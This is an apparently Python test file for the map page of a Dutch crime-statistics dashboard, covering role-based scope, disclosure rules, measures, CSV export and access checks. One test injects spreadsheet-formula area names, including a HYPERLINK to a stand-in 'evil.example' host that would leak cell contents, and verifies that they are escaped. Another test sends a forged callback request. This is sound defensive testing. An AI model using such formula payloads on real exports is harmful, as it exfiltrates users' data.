"""The Kaart page: queries (scope, disclosure, measures) and the page in Debian's Chromium
against a real gunicorn server on the demo database."""
from __future__ import annotations

import csv
import io
import json
import shutil
import time
from urllib.parse import parse_qs, urlparse

import duckdb
import pytest
from playwright.sync_api import TimeoutError as PlaywrightTimeout
from playwright.sync_api import expect

import pandas as pd

from data.queries import map as q
from data.queries.overview import last_complete_months
from data.scope import OutOfScope, Scope
from data.segments import connect as connect_db

from .conftest import choices, login, state_rows

MAYOR = Scope(frozenset({"GMD001"}), 1, "Havenstad")
UNIT = Scope(frozenset({"GMD001", "GMD002", "GMD003", "GMD004"}), 3, "Eenheid")
CHOROPLETH = ".leaflet-overlay-pane path.leaflet-interactive"


@pytest.fixture(scope="module")
def con(demo_db, tmp_path_factory):
    # A copy: another test may already hold the demo file open in this process with a
    # different DuckDB configuration (create_app), which DuckDB refuses to mix.
    copy = tmp_path_factory.mktemp("kaart") / "demo.duckdb"
    shutil.copyfile(demo_db, copy)
    connection = connect_db(copy)
    yield connection
    connection.close()


def _count(con, period, group, column, code):
    return con.execute(
        f"SELECT count(*) FROM incidents WHERE {column} = ? AND occurred_date >= ?"
        " AND occurred_date < ? AND type_code IN"
        " (SELECT type_code FROM type_groups WHERE group_code = ?)",
        [code, period.start, period.end, group]).fetchall()[0][0]


def _count_type(con, period, code, column, area):
    """Registrations of one type in an area, straight from the incidents table."""
    return con.execute(
        f"SELECT count(*) FROM incidents WHERE {column} = ? AND type_code = ?"
        " AND occurred_date >= ? AND occurred_date < ?",
        [area, code, period.start, period.end]).fetchall()[0][0]


def _small_buurt(con, period):
    """A buurt of GMD001 with 1-4 registrations of some bundle in the period."""
    row = con.execute("""
        SELECT * FROM (
            SELECT i.bu_code, a.wk_code, g.group_code, count(*) AS n
            FROM incidents i JOIN type_groups g ON g.type_code = i.type_code
            JOIN areas a ON a.code = i.bu_code
            WHERE i.gm_code = 'GMD001' AND i.occurred_date >= ? AND i.occurred_date < ?
            GROUP BY ALL HAVING count(*) BETWEEN 1 AND 4)
        ORDER BY group_code <> 'woninginbraak', n, bu_code, group_code LIMIT 1""",
        [period.start, period.end]).fetchall()
    assert row, "the demo has no small buurt count"
    return row[0]


# -- queries --------------------------------------------------------------------------------------

def test_queries_refuse_another_gemeente_for_a_mayor(con):
    period = last_complete_months(con, scope=MAYOR)
    with pytest.raises(OutOfScope):
        q.map_values(con, scope=MAYOR, level="wijk", period=period, group="alle_misdrijven",
                     measure="count", within="GMD002")
    with pytest.raises(OutOfScope):
        q.geometry(con, scope=MAYOR, level="wijk", within="GMD002")
    with pytest.raises(OutOfScope):
        q.area(con, scope=MAYOR, code="WKD00201")
    # Without `within` only the own gemeente's areas come back.
    frame = q.map_values(con, scope=MAYOR, level="wijk", period=period, group="alle_misdrijven",
                         measure="count")
    assert len(frame) and set(frame["parent_code"]) == {"GMD001"}
    shapes = json.loads(q.geometry(con, scope=MAYOR, level="gemeente"))
    assert [f["id"] for f in shapes["features"]] == ["GMD001"]
    assert set(shapes["features"][0]["properties"]) == {"code", "name"}
    # PC6 (a handful of addresses) needs detail level 3, as address lists do.
    for detail in (1, 2):
        scope = Scope(MAYOR.gemeenten, detail, "Havenstad")
        with pytest.raises(OutOfScope):
            q.map_values(con, scope=scope, level="pc6", period=period,
                         group="alle_misdrijven", measure="count")
        with pytest.raises(OutOfScope):
            q.geometry(con, scope=scope, level="pc6")
    assert len(q.map_values(con, scope=Scope(MAYOR.gemeenten, 3, "Havenstad"), level="pc6",
                            period=period, group="alle_misdrijven", measure="count"))


def test_map_values_measures_and_disclosure(con):
    """A small woninginbraak count per buurt is public: the mayor gets it exactly, with its
    rate and rank; a bundle with a withheld member counts the others for the mayor only."""
    period = last_complete_months(con, scope=MAYOR)
    buurt, wijk, group, n = _small_buurt(con, period)
    assert group == "woninginbraak"
    mayor = q.map_values(con, scope=MAYOR, level="buurt", period=period, group=group,
                         measure="per_1000", within="GMD001", parent=wijk).set_index("code")
    assert mayor.loc[buurt, "count"] == n and not pd.isna(mayor.loc[buurt, "rank"])
    assert mayor.loc[buurt, "per_1000"] == round(n * 1000 / mayor.loc[buurt, "population"], 1)
    geweld = {scope.detail: q.map_values(con, scope=scope, level="wijk", period=period,
                                         group="geweld", measure="count", within="GMD001")
              for scope in (MAYOR, UNIT)}
    withheld = {code: _count(con, period, "geweld", "wk_code", code)
                - _count_type(con, period, "1.4.1", "wk_code", code)
                for code in geweld[1]["code"]}
    assert dict(zip(geweld[1]["code"], geweld[1]["count"])) == withheld
    assert (geweld[3]["count"].to_numpy() >= geweld[1]["count"].to_numpy()).all()
    assert (geweld[3]["count"] > geweld[1]["count"]).any()  # 1.4.1 is there, for detail 3
    chef = q.map_values(con, scope=UNIT, level="buurt", period=period, group=group,
                        measure="change", within="GMD001", parent=wijk).set_index("code")
    assert chef.loc[buurt, "count"] == n
    previous = _count(con, period.shifted(-12), group, "bu_code", buurt)
    assert chef.loc[buurt, "previous"] == previous
    assert chef.loc[buurt, "change"] == n - previous
    wijken = q.map_values(con, scope=UNIT, level="wijk", period=period, group=group,
                          measure="per_1000", within="GMD001")
    row = wijken.iloc[0]
    assert row["per_1000"] == round(row["count"] * 1000 / row["population"], 1)
    assert row["parent_total"] == _count(con, period, group, "gm_code", "GMD001")
    pc4 = q.map_values(con, scope=UNIT, level="pc4", period=period, group=group,
                       measure="per_1000", within="GMD001")
    assert pc4["per_1000"].isna().all()  # no population for PC4: no rate


#: The figures of a map row that are <NA> when the data do not give them.
FIGURES = ("count", "previous", "change", "change_pct", "per_1000", "value")
#: Measure -> the figures a lean frame (the Kaart's) holds; the others it leaves out.
LEAN = {"count": ("count", "value"), "per_1000": ("count", "per_1000", "value"),
        "change": ("count", "previous", "change", "change_pct", "value")}


def test_no_figure_is_null_without_its_reason(con):
    """No data is never zero, nor silent (``explain=True``, the API's ``reason``): in every
    layer, measure and period, lean (what the Kaart shows) or whole (the API), a row whose
    value or any figure it holds is <NA> says why; the count's own reason stays as it was and
    nothing but ``reason`` changes. The oldest year's comparison year is only partly covered:
    no change, and the reason says so; a PC4 area has no population: no rate, and why."""
    checked = 0
    for scope in (UNIT, MAYOR):
        periods = q.period_options(con, scope=scope)
        for key, period in (periods[0], periods[-1]):  # 12m, the oldest complete year
            for level in ("eenheid", "gemeente", "wijk", "buurt", "pc4"):
                for group in ("alle_misdrijven", "geweld"):
                    for measure in q.MEASURES:
                        for lean in (False, True):
                            args = dict(scope=scope, level=level, period=period, group=group,
                                        measure=measure, lean=lean)
                            try:
                                plain = q.map_values(con, **args)
                            except OutOfScope:  # a bundle not released at this level
                                continue
                            frame = q.map_values(con, **args, explain=True)
                            pd.testing.assert_frame_equal(frame.drop(columns="reason"),
                                                          plain.drop(columns="reason"))
                            shown = [c for c in FIGURES if not lean or c in LEAN[measure]]
                            silent = frame[frame[shown].isna().any(axis=1)
                                           & frame["reason"].isna()]
                            assert silent.empty, (args, silent.head(3).to_dict("records"))
                            own = plain["count"].isna()
                            assert frame.loc[own, "reason"].tolist() == \
                                plain.loc[own, "reason"].tolist()
                            checked += len(frame)
    assert checked > 5_000
    oldest = q.period_options(con, scope=UNIT)[-1][1]
    before = oldest.shifted(-12)
    first = con.execute("SELECT min(occurred_date) FROM incidents").fetchall()[0][0]
    assert before.start < first < before.end  # the comparison year is partly covered
    for level in ("gemeente", "wijk", "buurt"):
        frame = q.map_values(con, scope=UNIT, level=level, period=oldest,
                             group="alle_misdrijven", measure="change", within="GMD001",
                             lean=True, explain=True)
        assert len(frame) and frame["count"].notna().all() and frame["value"].isna().all()
        assert set(frame["reason"]) == {
            f"geen vergelijking: geen gegevens voor {before.start.year}"
            f" (de gegevens beginnen in {first:%m-%Y})"}, level
    pc4 = q.map_values(con, scope=UNIT, level="pc4", period=oldest, group="alle_misdrijven",
                       measure="per_1000", within="GMD001", lean=True, explain=True)
    assert len(pc4) and pc4["population"].isna().all() and pc4["value"].isna().all()
    assert set(pc4["reason"]) == {
        f"geen cijfer per 1.000 inwoners: geen inwonertal bekend (t/m {oldest.start.year})"}


def test_a_wijk_without_population_says_why_it_has_no_rate(demo_db, tmp_path):
    """Every demo wijk has a population; without one (or with 0 inhabitants) a wijk has no
    rate per 1.000 inwoners, and its reason says why — the other wijken keep theirs."""
    from .conftest import demo_copy

    db = demo_copy(demo_db, tmp_path)
    writer = duckdb.connect(str(db))
    wijken = [c for c, in writer.execute("SELECT code FROM areas WHERE level = 'wijk' AND"
                                         " gm_code = 'GMD001' ORDER BY code").fetchall()]
    unknown, empty = wijken[:2]
    writer.execute("DELETE FROM population WHERE code = ?", [unknown])
    writer.execute("UPDATE population SET population = 0 WHERE code = ?", [empty])
    writer.close()
    con = connect_db(db)
    try:
        period = last_complete_months(con, scope=UNIT)
        year = (period.end.year if period.end.month > 1 else period.end.year - 1)
        for lean in (True, False):
            frame = q.map_values(con, scope=UNIT, level="wijk", period=period,
                                 group="alle_misdrijven", measure="per_1000",
                                 within="GMD001", lean=lean, explain=True).set_index("code")
            assert frame["count"].notna().all()
            assert pd.isna(frame.loc[unknown, "value"]) and pd.isna(frame.loc[empty, "value"])
            assert frame.loc[unknown, "reason"].startswith(
                f"geen cijfer per 1.000 inwoners: geen inwonertal bekend (t/m {year})")
            assert frame.loc[empty, "reason"].startswith(
                f"geen cijfer per 1.000 inwoners: inwonertal 0 (t/m {year})")
            rated = frame.drop(index=[unknown, empty])
            assert rated["value"].notna().all()
            assert not rated["reason"].fillna("").str.contains("inwoner").any()
    finally:
        con.close()


# -- the page -------------------------------------------------------------------------------------

# An open tooltip. Leaflet fades a closed one to opacity 0 before removing it; one closed while
# its area's layer was replaced (a drill-down) may stay in the DOM that way, unseen: skip those.
TOOLTIP = '.leaflet-tooltip:not([style*="opacity: 0;"])'


def _wait_for_panel(page, text=None):
    expect(page.locator("#kaart-panel .kaart-table")).to_be_visible(timeout=20_000)
    if text:
        expect(page.locator("#kaart-panel")).to_contain_text(text, timeout=20_000)


def _tooltip(page, hover, contains: str) -> str:
    """Hover until the tooltip shows ``contains`` and return its text. A values update re-binds
    the layer and may close a tooltip opened just before, so hover again when that happens."""
    tooltip = page.locator(TOOLTIP)
    for _ in range(5):
        hover()
        try:
            expect(tooltip).to_contain_text(contains, timeout=4_000)
            return tooltip.inner_text(timeout=2_000)
        except (AssertionError, PlaywrightTimeout):
            page.mouse.move(0, 0)
    raise AssertionError(f"no tooltip containing {contains!r}")


def _search(page):
    return {k: v[0] for k, v in parse_qs(urlparse(page.evaluate("location.href")).query).items()}


@pytest.mark.browser
def test_mayor_drills_down_from_gemeente_to_buurten(page, demo_server, con):
    login(page, demo_server, "burgemeester")
    page.goto(demo_server.url + "/kaart?niveau=gemeente&maat=count")  # (home: the wijken)
    _wait_for_panel(page, "Gemeenten")
    expect(page.locator(CHOROPLETH)).to_have_count(1, timeout=20_000)
    period = last_complete_months(con, scope=MAYOR)
    expected = _count(con, period, "alle_misdrijven", "gm_code", "GMD001")
    # Tooltip and panel show the DuckDB figure.
    text = _tooltip(page, lambda: page.locator(CHOROPLETH).first.hover(), "Havenstad (GMD001)")
    assert f"Aantal: {expected:,}".replace(",", ".") in text
    cells = page.locator("#kaart-panel tr[data-code='GMD001'] td").all_inner_texts()
    assert cells[2] == f"{expected:,}".replace(",", ".")

    page.locator(CHOROPLETH).first.click()
    wijken = con.execute("SELECT count(*) FROM areas WHERE level = 'wijk' AND gm_code = 'GMD001'"
                         ).fetchall()[0][0]
    expect(page.locator(CHOROPLETH)).to_have_count(wijken, timeout=20_000)
    expect(page.locator("#kaart-breadcrumb")).to_contain_text("Havenstad")
    _wait_for_panel(page, "Wijken in Havenstad")
    assert _search(page)["niveau"] == "wijk" and _search(page)["gebied"] == "GMD001"

    first_row = page.locator("#kaart-panel tbody tr").first
    wijk = first_row.get_attribute("data-code")
    count = int(first_row.locator("td").nth(2).inner_text().replace(".", ""))
    withheld = sum(_count_type(con, period, code, "wk_code", wijk)  # data/disclosure.py
                   for code in ("1.4.1", "3.2.1", "3.2.2"))
    assert withheld and count == _count(con, period, "alle_misdrijven", "wk_code", wijk) - withheld
    name = con.execute("SELECT name FROM areas WHERE code = ?", [wijk]).fetchall()[0][0]
    buurten = con.execute("SELECT count(*) FROM areas WHERE level = 'buurt' AND parent_code = ?",
                          [wijk]).fetchall()[0][0]
    # Click the wijk on the map (its path carries the area code as a class name).
    page.locator(f"path.vb-area-{wijk}").dispatch_event("click")
    expect(page.locator(CHOROPLETH)).to_have_count(buurten, timeout=20_000)
    expect(page.locator("#kaart-breadcrumb")).to_contain_text(name)
    _wait_for_panel(page, f"Buurten in {name}")
    assert _search(page)["niveau"] == "buurt" and _search(page)["gebied"] == wijk
    # The breadcrumb leads back up (a mayor's starts at the own gemeente).
    page.locator("#kaart-breadcrumb a", has_text="Havenstad").click()
    expect(page.locator(CHOROPLETH)).to_have_count(1, timeout=20_000)


@pytest.mark.browser
@pytest.mark.parametrize("user", ["burgemeester", "teamchef"])
def test_small_public_buurt_count_is_shown_to_everyone(page, demo_server, con, user):
    period = last_complete_months(con, scope=MAYOR)
    buurt, wijk, group, n = _small_buurt(con, period)
    login(page, demo_server, user)
    page.goto(f"{demo_server.url}/kaart?niveau=buurt&gebied={wijk}&type={group}&periode=12m"
              "&maat=count")
    _wait_for_panel(page)
    row = page.locator(f"#kaart-panel tr[data-code='{buurt}'] td")
    expect(row.nth(1)).to_have_text(buurt, timeout=20_000)
    shown = row.nth(2).inner_text()
    assert shown == str(n)
    text = _tooltip(page, lambda: page.locator(f"path.vb-area-{buurt}").dispatch_event("mouseover"),
                    f"({buurt})")
    assert f"Aantal: {shown}" in text.splitlines()


@pytest.mark.browser
def test_the_map_says_what_a_mayor_gets_below_the_gemeente(page, demo_server):
    login(page, demo_server, "burgemeester")
    page.goto(f"{demo_server.url}/kaart?niveau=wijk&gebied=GMD001&type=geweld&periode=12m"
              "&maat=count")
    _wait_for_panel(page)
    expect(page.locator("#kaart-panel")).to_contain_text("zonder Zedenmisdrijf (1.4.1)")
    # the last 12 months hold the newest registration months: provisional, and said so
    expect(page.locator("#kaart-panel")).to_contain_text("Voorlopig (")
    page.goto(f"{demo_server.url}/kaart?niveau=wijk&gebied=GMD001&type=overlast&periode=12m"
              "&maat=count")
    expect(page.locator("#kaart-panel .refusal")).to_contain_text("niet beschikbaar",
                                                                  timeout=20_000)


@pytest.mark.browser
def test_areas_without_a_shape_keep_their_row_and_are_counted(page, demo_db, tmp_path):
    """A buurt of a newer indeling than the boundary file: the map cannot draw it, says how
    many it cannot draw, and the panel and the query still hold its row."""
    from data.store import Store
    from .conftest import LiveServer, demo_copy

    db = demo_copy(demo_db, tmp_path)
    with duckdb.connect(str(db)) as write:
        buurt = write.execute("SELECT code FROM areas WHERE level = 'buurt' AND gm_code = "
                              "'GMD001' ORDER BY code LIMIT 1").fetchall()[0][0]
        write.execute("DELETE FROM boundary_shapes WHERE code = ?", [buurt])
        buurten = write.execute("SELECT count(*) FROM areas WHERE level = 'buurt' AND "
                                "gm_code = 'GMD001'").fetchall()[0][0]
    analist = Scope(frozenset({"GMD001"}), 3, "Havenstad")
    con = Store(db).read()
    try:
        codes = [c for c, in con.execute("SELECT code FROM areas WHERE level = 'buurt' AND "
                                        "gm_code = 'GMD001'").fetchall()]
        assert q.shapeless(con, scope=analist, level="buurt", codes=codes) == [buurt]
    finally:
        con.close()
    server = LiveServer(db)
    try:
        login(page, server, "analist")
        page.goto(f"{server.url}/kaart?niveau=buurt&gebied=GMD001&type=alle_misdrijven"
                  "&periode=12m&maat=count")
        _wait_for_panel(page, "1 gebied staat niet op de kaart")
        expect(page.locator(CHOROPLETH)).to_have_count(buurten - 1, timeout=30_000)
        assert buurten <= 100  # the panel lists them all: the undrawn buurt keeps its row
        expect(page.locator(f"#kaart-panel tbody tr[data-code='{buurt}']")).to_have_count(1)
    finally:
        server.stop()


@pytest.mark.browser
def test_area_names_from_a_boundary_file_never_arrive_as_formulas(page, demo_db, tmp_path):
    """Area names come from boundary files (a beheerder's import). One that starts like a
    formula reaches the Kaart's CSV and the API's counts CSV with a leading ', while the
    numbers (a change of -5) stay numbers."""
    import requests

    from data.state import StateDB
    from data.tokens import create_token
    from .conftest import LiveServer, demo_copy

    db = demo_copy(demo_db, tmp_path)
    evil = {"=HYPERLINK(\"http://evil.example/?\"&A3,\"klik\")": None, "@SUM(1+1)": None,
            "+31 6 12345678": None}
    with duckdb.connect(str(db)) as write:
        codes = [c for c, in write.execute(
            "SELECT code FROM areas WHERE level = 'buurt' AND gm_code = 'GMD001' ORDER BY code"
            " LIMIT 3").fetchall()]
        for name, code in zip(list(evil), codes):
            evil[name] = code
            write.execute("UPDATE areas SET name = ? WHERE code = ?", [name, code])
    state = tmp_path / "appstate.sqlite"
    server = LiveServer(db, env={"DASHBOARD_STATE_DB": str(state)})
    try:
        login(page, server, "analist")
        page.goto(f"{server.url}/kaart?niveau=buurt&gebied=GMD001&type=alle_misdrijven"
                  "&periode=12m&maat=change")
        _wait_for_panel(page, "Verandering")
        with page.expect_download() as info:
            page.click("#kaart-csv")
        table = list(csv.reader(io.StringIO(open(info.value.path(), "rb").read()
                                            .decode("utf-8-sig")), delimiter=";"))
        names = {row[1]: row[0] for row in table[1:]}
        for name, code in evil.items():
            assert names[code] == "'" + name
        cells = [c for row in table for c in row]
        assert not [c for c in cells if c[:1] in ("=", "@", "\t", "\r")]
        changes = [row[5] for row in table[1:]]  # Verschil: signed numbers as written
        assert any(c.startswith("-") for c in changes) and any(c.startswith("+") for c in changes)
        token = create_token(StateDB(state), "analist", label="test", by="analist")[1]
        response = requests.get(server.url + "/api/v1/counts", timeout=60, headers={
            "Authorization": f"Bearer {token}"}, params={"level": "buurt", "area": "GMD001",
                                                        "measure": "change", "format": "csv"})
        assert response.status_code == 200, response.text[:300]
        rows = list(csv.DictReader(io.StringIO(response.text), delimiter=";"))
        named = {row["code"]: row["name"] for row in rows}
        for name, code in evil.items():
            assert named[code] == "'" + name
        values = [row["change"] for row in rows if row["change"]]
        assert any(v.startswith("-") for v in values), values[:20]  # numbers untouched
    finally:
        server.stop()


def test_imported_buurt_counts_fill_a_year_before_the_incidents(demo_db, tmp_path):
    """A year before the incident registration, covered by an imported buurt table (tidy
    layout, as a CBS buurt table is written): the map values per buurt are that table's
    numbers, with its source; a buurt the table leaves out and a year neither covers say
    "geen gegevens", never 0."""
    from datetime import date

    from data.importers import run_import
    from data.periods import Period
    from data.store import Store
    from .conftest import demo_copy

    db = demo_copy(demo_db, tmp_path)
    store = Store(db)
    con = store.read()
    first = con.execute("SELECT min(occurred_date) FROM incidents").fetchall()[0][0]
    buurten = [c for c, in con.execute("SELECT code FROM areas WHERE level = 'buurt' AND "
                                      "gm_code = 'GMD001' ORDER BY code").fetchall()]
    con.close()
    year = first.year - 1
    table = {code: 3 * i for i, code in enumerate(buurten[1:])}  # buurten[0] left out, a 0 in
    source = tmp_path / "buurt_woninginbraak.csv"
    source.write_text("area_code,period,crime_code,count\n" + "".join(
        f"{code},{year},1.1.1,{n}\n" for code, n in table.items()))
    run_import(store, "counts", source)
    con = store.read()
    try:
        for scope in (Scope(frozenset({"GMD001"}), 1, "Havenstad"),
                      Scope(frozenset({"GMD001"}), 3, "Havenstad")):
            frame = q.map_values(con, scope=scope, level="buurt", within="GMD001",
                                 period=Period(date(year, 1, 1), date(year + 1, 1, 1)),
                                 group="woninginbraak", measure="count")
            shown = dict(zip(frame["code"], frame["count"]))
            assert {c: int(shown[c]) for c in table} == table  # the file's 0 is a 0
            assert pd.isna(shown[buurten[0]])
            row = frame.set_index("code").loc[buurten[0]]
            assert row["reason"].startswith("geen gegevens") and pd.isna(row["source"])
            assert set(frame.set_index("code").loc[list(table), "source"]) == {
                "buurt_woninginbraak.csv"}
            earlier = q.map_values(con, scope=scope, level="buurt", within="GMD001",
                                   period=Period(date(year - 1, 1, 1), date(year, 1, 1)),
                                   group="woninginbraak", measure="count")
            assert earlier["count"].isna().all() and earlier["reason"].notna().all()
    finally:
        con.close()


@pytest.mark.browser
def test_csv_download_equals_the_panel(page, demo_server):
    login(page, demo_server, "burgemeester")
    page.goto(demo_server.url + "/kaart?niveau=buurt&gebied=GMD001&type=woninginbraak&maat=change")
    _wait_for_panel(page, "Verandering")
    header = page.locator("#kaart-panel thead th").all_inner_texts()
    rows = [r.locator("td").all_inner_texts() for r in page.locator("#kaart-panel tbody tr").all()]
    assert len(rows) > 20 and not any("<" in c for r in rows for c in r)
    with page.expect_download() as info:
        page.click("#kaart-csv")
    raw = open(info.value.path(), "rb").read()
    assert raw.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert table[0] == header
    assert table[1:] == rows


@pytest.mark.browser
def test_link_reproduces_the_view_and_out_of_scope_area_is_refused(page, demo_server, con):
    login(page, demo_server, "burgemeester")
    page.goto(demo_server.url + "/kaart?niveau=pc4&gebied=GMD001&type=woninginbraak"
              "&periode=2025&maat=per_1000")
    _wait_for_panel(page, "Per 1.000")
    assert page.locator("#kaart-niveau").inner_text().strip() == "Postcode (PC4)"
    expect(page.locator("#kaart-attribution")).to_have_text("© CBS, © ESRI Nederland")
    expect(page.locator("#kaart-subtitle")).to_contain_text("Woninginbraak · 2025")
    assert _search(page) == {"niveau": "pc4", "gebied": "GMD001", "type": "woninginbraak",
                             "periode": "2025", "maat": "per_1000"}
    page.goto(demo_server.url + "/kaart?niveau=wijk&gebied=GMD002")
    expect(page.locator("#kaart-message")).to_contain_text("geen toegang", ignore_case=True,
                                                           timeout=20_000)
    time.sleep(1)
    assert page.locator(CHOROPLETH).count() == 0
    assert page.locator("#kaart-panel tbody tr").count() == 0
    name = con.execute("SELECT name FROM areas WHERE code = 'GMD002'").fetchall()[0][0]
    assert name not in page.content()


@pytest.mark.browser
def test_a_view_cached_for_the_analist_is_still_refused_to_the_mayor(page, browser,
                                                                     demo_server, con):
    """The Kaart's checked view state and choices are cached per scope (callbacks/kaart_state):
    after the analist opened a wijk layer of GMD002 (twice, so both workers hold it), the same
    link is refused to the mayor of GMD001, and nothing of GMD002 reaches that page."""
    link = demo_server.url + "/kaart?niveau=wijk&gebied=GMD002&type=alle_misdrijven&periode=12m"
    login(page, demo_server, "analist")
    for _ in range(2):
        page.goto(link)
        _wait_for_panel(page, "Wijken in")
    mayor = browser.new_context().new_page()
    try:
        login(mayor, demo_server, "burgemeester")
        for _ in range(2):
            mayor.goto(link)
            expect(mayor.locator("#kaart-message")).to_contain_text(
                "geen toegang", ignore_case=True, timeout=20_000)
        time.sleep(1)
        assert mayor.locator("#kaart-panel tbody tr").count() == 0
        name = con.execute("SELECT name FROM areas WHERE code = 'GMD002'").fetchall()[0][0]
        assert name not in mayor.content()
    finally:
        mayor.context.close()


@pytest.mark.browser
@pytest.mark.parametrize("width,height", [(1920, 1080), (1366, 768)])
def test_layout_does_not_overlap(page, demo_server, tmp_path, width, height):
    page.set_viewport_size({"width": width, "height": height})
    requested = []
    page.on("request", lambda request: requested.append(request.url))
    login(page, demo_server, "teamchef")
    page.goto(demo_server.url + "/kaart?niveau=wijk&gebied=GMD001")
    _wait_for_panel(page)
    page.locator(CHOROPLETH).first.wait_for()
    page.screenshot(path=str(tmp_path / f"kaart-{width}x{height}.png"), full_page=True)
    boxes = {name: page.locator(selector).bounding_box() for name, selector in
             [("map", "#kaart-map"), ("controls", "#kaart-controls"),
              ("panel", "#kaart-panel-col .card")]}
    for name, box in boxes.items():
        assert box and box["width"] > 100 and box["height"] > 30, name
        assert box["x"] >= 0 and box["x"] + box["width"] <= width, name
    names = list(boxes)
    for i, a in enumerate(names):
        for b in names[i + 1:]:
            A, B = boxes[a], boxes[b]
            apart = (A["x"] + A["width"] <= B["x"] or B["x"] + B["width"] <= A["x"]
                     or A["y"] + A["height"] <= B["y"] or B["y"] + B["height"] <= A["y"])
            assert apart, (a, b, A, B)
    assert boxes["map"]["width"] > boxes["panel"]["width"]  # side by side at these widths
    # Without DASHBOARD_TILE_URL the map needs nothing from outside.
    assert [url for url in requested if not url.startswith(demo_server.url)] == []


def test_tile_layer_only_with_a_tile_url():
    from layouts.kaart import kaart

    def types(component):
        found = [type(component).__name__]
        children = getattr(component, "children", None)
        for child in children if isinstance(children, list) else [children]:
            if child is not None and not isinstance(child, str):
                found += types(child)
        return found
    assert "TileLayer" not in types(kaart([], [], ""))
    assert "TileLayer" in types(kaart([], [], "https://service.pdok.nl/{z}/{x}/{y}.png"))


# -- incident points (detail level 3 only) --------------------------------------------------------

def _points_wijk(con, period):
    """A wijk of GMD001 and a bundle with a modest number of incidents in the period (so the
    cluster counts are never abbreviated), and that number."""
    row = con.execute("""
        SELECT wk_code, group_code, n FROM (
            SELECT i.wk_code, g.group_code, count(*) AS n
            FROM incidents i JOIN type_groups g ON g.type_code = i.type_code
            WHERE i.gm_code = 'GMD001' AND i.occurred_date >= ? AND i.occurred_date < ?
              AND i.lon IS NOT NULL AND i.lat IS NOT NULL
            GROUP BY ALL HAVING count(*) BETWEEN 20 AND 400)
        ORDER BY group_code <> 'woninginbraak', n DESC, wk_code LIMIT 1""",
        [period.start, period.end]).fetchall()
    assert row, "the demo has no wijk with a modest incident count"
    return row[0]


def test_incident_points_need_detail_3_before_any_sql(con):
    period = last_complete_months(con, scope=UNIT)
    for scope in (MAYOR, Scope(frozenset({"GMD001"}), 2, "Havenstad")):
        with pytest.raises(OutOfScope):  # con=None: reaching SQL would be an AttributeError
            q.incident_points(None, scope=scope, within="GMD001", period=period,
                              group="alle_misdrijven")
    with pytest.raises(OutOfScope):
        q.incident_points(None, scope=UNIT, within="GMD099", period=period,
                          group="alle_misdrijven")
    wijk, group, n = _points_wijk(con, period)
    data = q.incident_points(con, scope=UNIT, within="GMD001", parent=wijk, period=period,
                             group=group)
    assert len(data["features"]) == data["total"] == n and not data["capped"]
    feature = data["features"][0]
    assert feature["geometry"]["type"] == "Point"
    assert set(feature["properties"]) == {"type", "date", "address", "pc6", "mo"}
    assert len(feature["properties"]["date"]) == 10 and feature["properties"]["date"][2] == "-"
    capped = q.incident_points(con, scope=UNIT, within="GMD001", period=period, group=group,
                               limit=5)
    assert len(capped["features"]) == 5 and capped["capped"] and capped["total"] > 5
    # Another gemeente's wijk as parent inside GMD001 yields nothing.
    assert q.incident_points(con, scope=UNIT, within="GMD001", parent="WKD00201",
                             period=period, group=group)["features"] == []


def _is_points_response(response):
    return ("_dash-update-component" in response.url
            and "kaart-punten-geo" in (response.request.post_data or ""))


@pytest.mark.browser
def test_teamchef_sees_clustered_incident_points_with_popups(page, demo_server, con):
    period = last_complete_months(con, scope=UNIT)
    wijk, group, n = _points_wijk(con, period)
    login(page, demo_server, "teamchef")
    page.goto(f"{demo_server.url}/kaart?niveau=buurt&gebied={wijk}&type={group}&periode=12m"
              "&maat=count")
    _wait_for_panel(page)
    switch = page.locator("#kaart-punten")
    expect(switch).to_be_enabled(timeout=20_000)
    with page.expect_response(_is_points_response, timeout=20_000) as info:
        switch.check()
    data = info.value.json()["response"]["kaart-punten-geo"]["data"]
    assert len(data["features"]) == n and not data["capped"]
    expect(page.locator("#kaart-punten-message")).to_contain_text(f"{n} incidenten")
    # Clusters and single markers on the map together hold every incident of the wijk.
    markers = page.locator(".leaflet-marker-pane .marker-cluster, .leaflet-marker-pane .vb-incident")
    expect(markers.first).to_be_visible(timeout=20_000)
    clusters = [int(t) for t in page.locator(".marker-cluster span").all_inner_texts()]
    assert sum(clusters) + page.locator(".leaflet-marker-pane .vb-incident").count() == n
    # Zoom into clusters until single incidents show, then open one popup.
    for _ in range(12):
        if page.locator(".leaflet-marker-pane .vb-incident").count():
            break
        page.locator(".leaflet-marker-pane .marker-cluster").first.click()
        page.wait_for_timeout(700)
    page.locator(".leaflet-marker-pane .vb-incident").first.click()
    popup = page.locator(".leaflet-popup-content")
    expect(popup).to_contain_text("MO:", timeout=10_000)
    lines = popup.inner_text().splitlines()
    street_number, pc6 = lines[2].rsplit(", ", 1)
    found = con.execute(
        "SELECT count(*) FROM incidents WHERE wk_code = ? AND pc6 = ?"
        " AND street || ' ' || house_number = ? AND strftime(occurred_date, '%d-%m-%Y') = ?",
        [wijk, pc6, street_number, lines[1]]).fetchall()[0][0]
    assert found >= 1, lines
    # Up at wijk level the switch is disabled and the layer empty.
    page.goto(f"{demo_server.url}/kaart?niveau=wijk&gebied=GMD001")
    _wait_for_panel(page, "Wijken")
    expect(page.locator("#kaart-punten")).to_be_disabled(timeout=20_000)


@pytest.mark.browser
def test_mayor_has_no_point_switch_and_a_forged_points_request_is_refused(page, demo_server,
                                                                          demo_db, con):
    from .conftest import http_login

    period = last_complete_months(con, scope=MAYOR)
    wijk, group, _n = _points_wijk(con, period)
    login(page, demo_server, "burgemeester")
    page.goto(f"{demo_server.url}/kaart?niveau=buurt&gebied={wijk}&type={group}")
    _wait_for_panel(page)
    assert page.locator("#kaart-punten").count() == 0
    assert page.locator("#kaart-punten-geo").count() == 0
    assert "Incidenten tonen" not in page.locator("#page").inner_text()

    session = http_login(demo_server, "burgemeester")
    spec = next(s for s in session.get(demo_server.url + "/_dash-dependencies").json()
                if "kaart-punten-geo.data" in s["output"])
    outputs = [{"id": part.rsplit(".", 1)[0], "property": part.rsplit(".", 1)[1]}
               for part in spec["output"].strip(".").split("...")]
    values = {"kaart-punten": True, "kaart-area": {"level": "buurt", "area": wijk},
              "kaart-filters": {"group": group, "period": "12m", "measure": "count"}}
    body = {"output": spec["output"], "outputs": outputs,
            "inputs": [{"id": d["id"], "property": d["property"], "value": values[d["id"]]}
                       for d in spec["inputs"]],
            "state": [], "changedPropIds": ["kaart-punten.value"]}
    response = session.post(demo_server.url + "/_dash-update-component", json=body)
